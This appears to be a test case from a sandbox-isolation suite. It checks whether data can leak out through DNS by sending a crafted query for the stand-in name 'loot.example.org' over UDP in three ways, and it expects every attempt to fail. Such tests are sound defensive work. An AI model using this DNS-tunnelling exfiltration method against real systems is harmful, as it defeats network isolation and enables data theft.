"""87: hide what was found in the name that a DNS question asks for.

A naive grader closes TCP, and leaves the port open by which names are looked up.
expect: knock error | failed
hole: network
"""

import socket
import struct

WORDS = (b"loot", b"example", b"org")


def question():
    name = b"".join(bytes([len(word)]) + word for word in WORDS) + b"\0"
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)


def by_sendto():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(question(), ("127.0.0.1", TARGET["udp_port"]))


def by_sendmsg():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([question()], [], 0, ("127.0.0.1", TARGET["udp_port"]))


def by_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.connect(("::ffff:127.0.0.1", TARGET["udp_port"]))
        s.send(question())


def knock():
    for way in (by_sendto, by_sendmsg, by_ipv6):
        try:
            way()
        except OSError:
            continue
        print("HOLE", way.__name__)
        break  # one datagram is proof enough
    return "no password"
